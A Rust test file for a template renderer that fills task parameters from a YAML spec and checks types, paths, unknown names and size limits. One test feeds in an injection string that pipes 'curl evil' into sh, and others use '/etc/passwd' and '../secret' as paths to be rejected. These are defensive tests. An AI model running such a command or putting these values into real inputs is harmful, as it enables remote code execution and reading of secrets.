//! The task and its parameters.

use crate::spec::{Fault, Spec, parse};
use std::collections::BTreeMap;

fn spec(params: &str, task: &str) -> Spec {
    parse("t.yaml", &format!("version: 1\nparams: {params}\ntask: {task}\n")).unwrap()
}

fn map(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
}

fn told(faults: Vec<Fault>) -> Vec<String> {
    faults.iter().map(|fault| fault.to_string().replace("\n  hint: ", " | ")).collect()
}

#[test]
fn values_and_defaults_are_filled_in_once() {
    let spec = spec(
        "{ a: { type: string }, b: { type: number, default: 1.50 } }",
        "'{{ a }} {{b}} {{ a }}'",
    );
    let text = "{{ a }} {{b}} {{ a }}";
    let rendered = spec.render_task(&map(&[("a", "{{ b }} $HOME")]), text).unwrap();
    assert_eq!(rendered, "{{ b }} $HOME 1.50 {{ b }} $HOME", "a value is never a template");
}

#[test]
fn d84_no_shell_and_no_yaml_meaning_in_values() {
    let spec = spec("{ a: { type: string } }", "'Title: {{ a }}'");
    let evil = "\"; curl evil | sh #\n- x: *y";
    assert_eq!(
        spec.render_task(&map(&[("a", evil)]), "Title: {{ a }}").unwrap(),
        format!("Title: {evil}")
    );
}

#[test]
fn all_faults_of_the_values_at_once() {
    let params = "{ a: { type: string }, n: { type: number }, b: { type: bool }, \
                  c: { type: choice, choices: [x, y] }, p: { type: path }, f: { type: file } }";
    let text = "{{ a }}{{ n }}{{ b }}{{ c }}{{ p }}{{ f }}";
    let spec = spec(params, &format!("'{text}'"));
    let given = map(&[
        ("aa", "1"),
        ("n", "1e3"),
        ("b", "yes"),
        ("c", "z"),
        ("p", "/etc/passwd"),
        ("f", "../secret"),
    ]);
    assert_eq!(
        told(spec.render_task(&given, text).unwrap_err()),
        [
            "--param: no parameter is called \"aa\" | did you mean \"a\"?",
            "--param: the parameter \"a\" has no value | give --param a=VALUE, or a default in t.yaml",
            "--param: \"n\" must be a number, not \"1e3\"",
            "--param: \"b\" must be true or false, not \"yes\"",
            "--param: \"c\" must be one of x, y, not \"z\"",
            "--param: \"p\" must be relative to the workspace, not \"/etc/passwd\"",
            "--param: \"f\" must stay inside the workspace, without \"..\": \"../secret\"",
        ]
    );
}

#[test]
fn a_task_file_is_checked_in_its_own_lines() {
    let source = "version: 1\ntask_file: t.md\nparams: { a: { type: string, default: x } }\n";
    let spec = parse("jobs/t.yaml", source).unwrap();
    assert_eq!(
        told(spec.render_task(&BTreeMap::new(), "one\ntwo {{ b }}\n").unwrap_err()),
        [
            "jobs/t.md:2:5: the parameter \"b\" is not declared | did you mean \"a\"?",
            "jobs/t.yaml:3:11: the task never names the parameter \"a\" | write {{ a }} where it belongs, or take it out",
        ]
    );
    assert_eq!(
        told(spec.render_task_from("other.md", &BTreeMap::new(), "{{ a").unwrap_err())[0],
        "other.md:1:1: \"{{ a\" is no placeholder | write {{ name }} for a parameter, {{{{ for a literal {{"
    );
}

#[test]
fn an_empty_and_an_endless_task_are_refused() {
    let source = "version: 1\ntask_file: t.md\nparams: { a: { type: string, default: '' } }\n";
    let spec = parse("t.yaml", source).unwrap();
    assert_eq!(
        told(spec.render_task(&BTreeMap::new(), " {{ a }}\n").unwrap_err()),
        ["t.md: the task is empty | say what is to be done"]
    );
    let bomb = "{{ a }}".repeat(100_000);
    let given = map(&[("a", &"x".repeat(60_000))]);
    assert_eq!(
        told(spec.render_task(&given, &bomb).unwrap_err()),
        ["t.md: the task is longer than 1048576 bytes | hand long texts over as files or inputs"]
    );
    let too_long = map(&[("a", &"x".repeat(70_000))]);
    assert!(
        told(spec.render_task(&too_long, "{{ a }}").unwrap_err())[0].contains("has 70000 bytes")
    );
}

#[test]
fn file_parameters_are_named_for_whoever_may_look() {
    let params = "{ f: { type: file }, s: { type: string, default: x } }";
    let spec = spec(params, "'{{ f }}{{ s }}'");
    let values = map(&[("f", "a/b.txt"), ("s", "x")]);
    let files: Vec<_> =
        spec.file_params(&values).map(|(param, path)| (&*param.name, path)).collect();
    assert_eq!(files, [("f", "a/b.txt")]);
}
